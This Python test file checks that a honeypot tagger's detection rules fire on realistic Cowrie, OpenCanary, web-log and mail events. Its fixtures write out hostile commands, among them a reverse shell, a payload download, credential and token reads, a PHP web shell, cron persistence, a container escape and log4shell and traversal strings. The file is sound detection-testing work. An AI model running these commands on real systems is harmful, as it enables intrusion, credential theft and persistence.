# SPDX-License-Identifier: AGPL-3.0-or-later
"""Every rule of the table's first part fires on what a real producer sends, and on nothing made up.

Logs go through the adapters, messages through the inputs of ingest, and all of it through the
fan-out and the lifters as installed.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import orjson
import pytest

from decnet_ttp.attack import load_catalogue
from decnet_ttp.core.source_kinds import SourceKind
from decnet_ttp.ingest.batch import TaggerRequests, Upstream, sink_of
from decnet_ttp.ingest.inputs.catalogue import input_for
from decnet_ttp.rule_store.loader import load_pack
from decnet_ttp.rule_store.vocabulary import Vocabulary
from decnet_ttp.sources.access_log import AccessLogSource
from decnet_ttp.sources.cowrie import CowrieSource
from decnet_ttp.sources.opencanary import OpenCanarySource
from decnet_ttp.tagger.evaluation import Evaluation
from decnet_ttp.tagger.lifter import load_lifters
from decnet_ttp.tagger.rule_set import RuleSet
from precision.corpora import ROOT

ATTACKER = "6f9619ff-8b86-5d01-b42d-00cf4fc964ff"
IDENTITY = "0d3b3c3e-2f43-5c0f-9a35-9b7b0f1c2d3e"
SEEN = "198.51.100.7"

#: Rules whose fields no producer that we know sends, and ingest cannot tell from what they do send.
NOT_SENT = {
    "R0047": "the text of a mail, which lies in the artifacts",
    "R0049": "what the browser told of itself",
    "R0050": "what the browser told of itself",
    "R0051": "what the browser told of itself",
    "R0052": "what the browser told of itself",
    "R0053": "what the browser told of itself",
}

Message = tuple[str, dict[str, Any]]
Input = Callable[[Path], Iterator[Message]]


def cowrie(*events: dict[str, Any]) -> Input:
    """A session of Cowrie, one event a second."""

    def read(folder: Path) -> Iterator[Message]:
        lines = []
        kinds = [
            {"eventid": "cowrie.session.connect", "protocol": "ssh", "src_port": 40000},
            *events,
            {"eventid": "cowrie.session.closed"},
        ]
        for second, fields in enumerate(kinds):
            ts = f"2026-11-21T10:{second // 60:02}:{second % 60:02}.000000Z"
            common = {"timestamp": ts, "session": "5e55107", "src_ip": SEEN, "sensor": "pot"}
            lines.append(json.dumps(common | fields))
        yield from _adapted(CowrieSource(), folder / "cowrie.json", lines)

    return read


def typed(*commands: str) -> Input:
    return cowrie(*({"eventid": "cowrie.command.input", "input": each} for each in commands))


def log_ins(*attempts: tuple[str, str, str]) -> Input:
    return cowrie(
        *(
            {"eventid": f"cowrie.login.{result}", "username": user, "password": password}
            for result, user, password in attempts
        )
    )


def opencanary(logtype: int, *entries: dict[str, Any], port: int = 23) -> Input:
    def read(folder: Path) -> Iterator[Message]:
        lines = [
            json.dumps(
                {
                    "logtype": logtype,
                    "utc_time": f"2026-11-21 10:00:{second:02}.000000",
                    "src_host": SEEN,
                    "dst_port": port,
                    "node_id": "canary-1",
                    "logdata": logdata,
                }
            )
            for second, logdata in enumerate(entries)
        ]
        yield from _adapted(OpenCanarySource(), folder / "opencanary.log", lines)

    return read


def access_log(
    *targets: str, agent: str = "Mozilla/5.0", step_s: int = 1, size_bytes: int = 12
) -> Input:
    def read(folder: Path) -> Iterator[Message]:
        lines = []
        for number, target in enumerate(targets):
            second = number * step_s
            when = f"21/Nov/2026:10:{second // 60:02}:{second % 60:02} +0000"
            asked = f"GET {target} HTTP/1.1"
            lines.append(f'{SEEN} - - [{when}] "{asked}" 200 {size_bytes} "-" "{agent}"')
        yield from _adapted(AccessLogSource(), folder / "access.log", lines)

    return read


def _adapted(source: Any, path: Path, lines: list[str]) -> Iterator[Message]:
    path.write_text("\n".join([*lines, ""]), encoding="utf-8")
    for message in source.read([str(path)]):
        yield message.topic, orjson.loads(message.payload)


def bus(topic: str, **payload: Any) -> Input:
    """A message as DECNET publishes it."""
    return lambda _: iter([(topic, {"attacker_ip": SEEN, **payload})])


def mail(**payload: Any) -> Input:
    fields = {"subject": "hello", "from_domain": "a.example", "decky_id": "mx-1"}
    return bus("email.received", source_id="m1", **(fields | payload))


WALLET = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
SPRAYED = {"shared_password_hash": "5e884898da28", "account_count": 7}
CASES: dict[str, tuple[Input, set[str]]] = {
    "many failed log-ins": (
        opencanary(6001, *({"USERNAME": "root", "PASSWORD": f"p{n}"} for n in range(6))),
        {"R0001", "R0002"},
    ),
    "one password on many accounts": (
        opencanary(2000, *({"USERNAME": f"u{n}", "PASSWORD": "Winter26"} for n in range(4))),
        {"R0003"},
    ),
    "one password over several sessions, as the sensor counted": (
        bus(
            "attacker.session.ended",
            session_id="s1",
            **SPRAYED,
            auth_attempts=[{"username": "root", "password": "x", "result": "failure"}],
        ),
        {"R0003"},
    ),
    "one password over the attackers of an identity": (
        bus(
            "identity.formed",
            identity_uuid=IDENTITY,
            observation_uuids=[ATTACKER],
            **SPRAYED,
        ),
        {"R0003"},
    ),
    "a beacon over several sessions, as the sensor measured": (
        bus("attacker.session.ended", session_id="s1", beacon_interval_s=60, beacon_jitter_pct=0.1),
        {"R0031"},
    ),
    "a credential used again": (
        bus(
            "credential.reuse.detected",
            id="r1",
            secret_kind="password",  # noqa: S106 - a kind of secret
            target_count=3,
            attacker_uuids=[ATTACKER],
            attacker_ips=[SEEN],
            services=["ssh", "ftp"],
        ),
        {"R0004"},
    ),
    "guessed, then a default": (
        log_ins(("failed", "root", "x1"), ("success", "root", "root")),
        {"R0005", "R0006"},
    ),
    "a scanner's agent": (access_log("/", agent="sqlmap/1.7"), {"R0007"}),
    "log4shell": (access_log("/?x=${jndi:ldap://198.51.100.9/a}"), {"R0008"}),
    "traversal": (access_log("/../../../../etc/passwd"), {"R0009"}),
    "commands": (
        typed(
            "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
            "python3 -c 'import os'",
            "wget http://198.51.100.9/x.sh",
            "cat /etc/passwd",
            "cat /etc/shadow",
            "find / -perm -4000 -type f",
            "find / -name '*.conf'",
            "nmap -sS 192.0.2.0/24",
            "uname -a",
            "whoami",
            "ifconfig -a",
            "netstat -antp",
            "ldapsearch -x -b dc=example,dc=org",
            "smbclient -L //192.0.2.8",
            "useradd -m -s /bin/bash backdoor",
            "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
            "redis-cli -h 192.0.2.8 config set dir /root/.ssh",
            "echo '<?php system($_GET[1]); ?>' > /var/www/html/x.php",
            "history -c",
            "sudo -l; sudo su",
        ),
        {f"R{number:04}" for number in range(10, 30)},
    ),
    "a client of a framework": (
        cowrie({"eventid": "cowrie.client.kex", "hassh": "fafc45381bfde997b6305c4e1600f1bf"}),
        {"R0030"},
    ),
    "a beacon": (access_log(*(["/beacon"] * 8), step_s=60), {"R0031"}),
    "a data store emptied": (
        opencanary(17001, {"CMD": "FLUSHALL", "ARGS": ""}, port=6379),
        {"R0032"},
    ),
    "an index read from end to end": (
        access_log(*(f"/users/_search?from={n}0000" for n in range(8)), size_bytes=700_000),
        {"R0035"},
    ),
    "a table read, as the decoy counted": (
        bus("attacker.session.ended", session_id="s1", service="mysql", rows_read=250_000),
        {"R0035"},
    ),
    "tables read, as it counted for each statement": (
        bus(
            "attacker.session.ended",
            session_id="s1",
            service="postgres",
            commands=[
                {"command_text": "SELECT * FROM a", "rows_read": 6_000},
                {"command_text": "SELECT * FROM b", "rows_read": 6_000},
            ],
        ),
        {"R0035"},
    ),
    "a note left in the shell": (
        typed(f"echo 'Your files are encrypted. Pay 1 BTC to {WALLET}' > /root/README.txt"),
        {"R0033"},
    ),
    "very many requests": (access_log(*(f"/dump/{n}" for n in range(60))), {"R0034"}),
    "credentials read in the shell": (typed("cat /root/.aws/credentials"), {"R0036"}),
    "a file of a share": (
        opencanary(5000, {"SHARENAME": "home", "FILENAME": "bob/.ssh/id_rsa"}, port=445),
        {"R0036"},
    ),
    "a token read in the shell": (
        typed("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
        {"R0037"},
    ),
    "a container that owns its host": (
        typed("docker run -it --privileged -v /:/host alpine chroot /host"),
        {"R0038"},
    ),
    "names answered for": (opencanary(19001, {}, port=5355), {"R0039"}),
    "a router's configuration": (
        opencanary(10001, {"FILENAME": "core-confg", "OPCODE": "READ"}, port=69),
        {"R0040"},
    ),
    "a relay": (mail(rcpt_count=40, mail_from_domain="b.example"), {"R0041", "R0045"}),
    "a campaign": (mail(rcpt_count=40, body_simhash="9f3c0a1177e04b21"), {"R0042"}),
    "a kit": (mail(x_mailer="gophish"), {"R0043"}),
    "a disguised link": (mail(urls=["https://xn--pypal-4ve.com/login"]), {"R0044"}),
    "a macro": (mail(attachment_count=1, attachment_macros=True), {"R0046"}),
    "an encoded body": (mail(body_base64_bytes=9_000), {"R0048"}),
    "what providers say": (
        bus(
            "attacker.intel.enriched",
            attacker_uuid=ATTACKER,
            aggregate_verdict="malicious",
            abuseipdb_score=100,
            abuseipdb_categories=[18, 22],
            greynoise_classification="malicious",
            feodo_listed=True,
            feodo_malware_family="Emotet",
            threatfox_threat_types=["botnet_cc"],
        ),
        {"R0054", "R0055", "R0056", "R0057", "R0058"},
    ),
    "a leaked address": (
        bus("attacker.fingerprinted", kind="ipv6_leak", addr="fe80::21b:21ff:fe12:3456"),
        {"R0059"},
    ),
}


@cache
def rules() -> tuple[RuleSet, tuple[Any, ...]]:
    catalogue = load_catalogue()
    loaded = load_pack([ROOT / "rules"], Vocabulary(catalogue), with_examples=False)
    lifters = tuple(load_lifters((), ROOT / "rules"))
    wanted = [each.message for each in loaded.rules if each.message.rule_id <= "R0059"]
    return RuleSet.empty().changed(wanted, (), lifters, catalogue), lifters


async def fired(messages: Iterator[Message]) -> set[str]:
    """Return the rules that match, as ingest's fan-out hands the events to a tagger."""
    rule_set, lifters = rules()
    requests = TaggerRequests(frozenset(SourceKind))
    sink = sink_of([requests])
    for number, (topic, payload) in enumerate(messages):
        source = input_for(topic)
        assert source is not None
        kind = str(payload.get("kind", ""))
        upstream = Upstream(f"o{number}", topic, payload, 1, kind=kind)
        assert source.read_anchor(upstream)
        # What the directory answers.
        upstream = replace(upstream, attacker_uuid=ATTACKER, identity_uuid=IDENTITY)
        for part in source.parts(upstream):
            requests.begin(part)
            source.write(part, sink)
    evaluation = Evaluation(lifters, attack_release="enterprise-v17.1")
    for request in requests.requests:
        answer = await evaluation.tag(request, rule_set)
        assert not answer.failures
    numbers = evaluation.statistics.snapshot(rule_set)
    return {rule_id for rule_id, found in numbers.items() if found.matches}


@pytest.mark.parametrize("name", CASES)
async def test_what_a_producer_sends_makes_the_rule_fire(name: str, tmp_path: Path) -> None:
    read, expected = CASES[name]
    assert expected <= await fired(read(tmp_path))


async def test_an_ordinary_session_fires_none_of_them(tmp_path: Path) -> None:
    quiet = typed("ls", "cd /srv", "cat notes.txt", "docker ps", "docker run alpine", "exit")
    assert await fired(quiet(tmp_path)) == set()


@pytest.mark.parametrize("target", ["/", "/search?q=_search", "/js/_search.js", "/_searching"])
async def test_large_pages_of_a_web_server_are_no_data_store(target: str, tmp_path: Path) -> None:
    assert await fired(access_log(*[target] * 8, size_bytes=9_000_000)(tmp_path)) == set()


def test_every_rule_has_a_producer_or_a_reason() -> None:
    rule_set, _ = rules()
    covered = set().union(*(expected for _, expected in CASES.values()))
    assert covered | NOT_SENT.keys() == set(rule_set.rules)
    assert not covered & NOT_SENT.keys()
